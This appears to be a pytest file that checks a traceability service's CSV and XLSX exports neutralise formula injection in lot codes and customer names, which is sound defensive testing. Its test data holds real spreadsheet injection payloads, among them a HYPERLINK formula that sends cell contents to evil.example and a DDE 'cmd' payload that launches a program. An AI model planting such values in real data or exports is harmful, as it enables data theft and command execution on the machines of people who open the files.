"""Formula injection: lot codes and customer names that a spreadsheet would run as formulas
reach every CSV and XLSX export as text, through the real ingest, ERP import and HTTP API;
numbers stay numbers.

The chain:  SRC received --B--> one output lot per hostile code, each shipped on its own
            document to a customer whose ERP name is hostile too.
"""

from __future__ import annotations

import csv
import io
from typing import Any

from openpyxl import load_workbook

from cloud_collector import trace
from cloud_collector.auth import Role
from cloud_collector.spreadsheet_cells import csv_cell, neutralised_copy_csv
from tests.cloud_collector.plant import lot_item
from tests.cloud_collector.test_fsma204 import Chain
from tests.conftest import RunningCollector, Services

# Lot codes (GS1 AI 10: at most 20 characters with the test's tag) and customer names.
HOSTILE_LOTS = ["=1+2-", "+1-", "@SUM(1)-", "\t=1-", "-2+3-"]
HOSTILE_NAMES = [
    '=HYPERLINK("http://evil.example/?"&A2,"Click")',
    "+1",
    "@SUM(1+1)",
    "\t=1",
    "-2+3",
    "\r=cmd|' /C calc'!A0",
]


async def chain(services: Services, collector: RunningCollector) -> tuple[Chain, list[str]]:
    p = Chain(services)
    lots = [prefix + p.tag for prefix in HOSTILE_LOTS]
    dock = f"dock-{p.tag}"
    await p.post(
        p.receipt([lot_item(p.flour, p.lot("SRC"), 500, "KGM")], f"PO-{p.tag}"),
        p.batch(
            f"B-{p.tag}",
            [lot_item(p.flour, p.lot("SRC"), 500, "KGM")],
            [lot_item(p.bread, lot, 10 + i, "EA") for i, lot in enumerate(lots)],
        ),
        *(
            {
                "kind": "object_event",
                "action": "OBSERVE",
                "biz_step": "shipping",
                "read_point": dock,
                "biz_location": dock,
                "items": [lot_item(p.bread, lot, 10 + i, "EA")],
                "biz_transactions": [{"type": "desadv", "id": f"SH-{i}-{p.tag}"}],
            }
            for i, lot in enumerate(lots)
        ),
    )
    customers = [
        {"customer_id": f"C-{i}-{p.tag}", "name": name} for i, name in enumerate(HOSTILE_NAMES)
    ]
    shipments = [
        {"shipment": f"SH-{i}-{p.tag}", "customer_id": f"C-{i}-{p.tag}", "ship_to": name}
        for i, name in enumerate(HOSTILE_NAMES[: len(lots)])
    ]
    async with collector.client(Role.importer) as api:
        for path, rows in (
            ("/api/v1/erp/customers", customers),
            ("/api/v1/erp/shipments", shipments),
            ("/api/v1/erp/locations", [{"location_id": dock, "name": HOSTILE_NAMES[0]}]),
        ):
            r = await api.put(path, json=rows)
            assert r.status_code == 200, r.text
    return p, lots


async def download(collector: RunningCollector, path: str, format: str) -> bytes:
    async with collector.client(Role.reader) as api:
        r = await api.get(path, params={"format": format})
    assert r.status_code == 200, r.text
    return r.content


def rows_of(body: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(body.decode("utf-8"), newline="")))


def neutralised(text: str) -> str:
    return "'" + text


async def test_trace_and_recall_csv_write_formula_like_text_as_text(
    services: Services, collector: RunningCollector
) -> None:
    p, lots = await chain(services, collector)
    src = f"/api/v1/lots/01/{p.flour}/10/{p.lot('SRC')}"
    traced = rows_of(await download(collector, f"{src}/trace/forward", "csv"))
    recalled = rows_of(await download(collector, f"{src}/recall", "csv"))

    by_code = {r["lot_code"]: r for r in traced}
    assert set(by_code) == {p.lot("SRC"), *map(neutralised, lots)}
    assert by_code[neutralised(lots[4])]["quantity"] == "14.0"  # a number, not text
    assert [r for r in traced if r["lot_code"][:1] in "=+-@\t\r"] == []

    shipped = {r["lot_code"]: r for r in recalled if r["status"] == "shipped"}
    assert set(shipped) == set(map(neutralised, lots))
    assert {r["customer"] for r in shipped.values()} == set(
        map(neutralised, HOSTILE_NAMES[: len(lots)])
    )
    assert shipped[neutralised(lots[0])]["customer"] == neutralised(HOSTILE_NAMES[0])
    assert shipped[neutralised(lots[4])]["quantity"] == "14"  # as PostgreSQL wrote it
    for row in recalled:
        assert all(not v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values()), row


async def test_fsma204_csv_and_xlsx_write_formula_like_text_as_text(
    services: Services, collector: RunningCollector
) -> None:
    p, lots = await chain(services, collector)
    path = f"/api/v1/fsma204/lots/01/{p.flour}/10/{p.lot('SRC')}/recall"
    rows = list(csv.reader(io.StringIO((await download(collector, path, "csv")).decode())))
    cells = [cell for row in rows for cell in row]
    assert all(not c.startswith(("=", "+", "-", "@", "\t", "\r")) for c in cells)
    assert set(map(neutralised, lots)) <= set(cells)
    assert neutralised(HOSTILE_NAMES[0]) in cells  # the dock's business name

    wb = load_workbook(io.BytesIO(await download(collector, path, "xlsx")))
    seen: dict[str, Any] = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{ws.title}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    seen[cell.value] = cell
    for text in [*lots, HOSTILE_NAMES[0]]:
        cell = seen[text]  # the exact text, no apostrophe added
        assert cell.data_type == "s" and cell.quotePrefix, text
    sheet = wb["FSMA 204"]
    header = [c.value for c in sheet[1]]
    quantities = [row[header.index("Quantity")] for row in sheet.iter_rows(min_row=2)]
    assert all(isinstance(q.value, int | float) for q in quantities if q.value is not None)
    assert {q.value for q in quantities} >= {10, 14}


def test_numbers_dates_and_plain_text_are_left_as_they_are() -> None:
    assert csv_cell(-5) == -5 and csv_cell(-2.5) == -2.5
    assert csv_cell("-5") == "'-5"  # text that looks like a number is still text
    assert csv_cell("SRC-1") == "SRC-1" and csv_cell("") == "" and csv_cell(None) is None
    assert csv_cell("a=b") == "a=b"


async def test_copy_csv_is_neutralised_by_column_across_block_boundaries() -> None:
    """PostgreSQL's CSV, cut at arbitrary bytes (a block may end inside a quoted field with
    a line break in it): the numeric columns are kept, every text cell neutralised."""
    copy_csv = (
        b'1,=1+2,-3.5,"=HYPERLINK(""http://x/?""&A2,""a\nb"")"\n2,plain,-7,@SUM(1)\n3,"+1,2",4,\n'
    )

    async def blocks() -> Any:
        for i in range(0, len(copy_csv), 7):
            yield copy_csv[i : i + 7]

    out = b"".join(
        [
            b
            async for b in neutralised_copy_csv(
                blocks(), ["id", "code", "qty", "name"], ["id", "qty"]
            )
        ]
    )
    rows = list(csv.reader(io.StringIO(out.decode(), newline="")))
    assert rows == [
        ["1", "'=1+2", "-3.5", '\'=HYPERLINK("http://x/?"&A2,"a\nb")'],
        ["2", "plain", "-7", "'@SUM(1)"],
        ["3", "'+1,2", "4", ""],
    ]
    assert trace.RECALL_CSV_COLUMNS[0] == "lot_id"
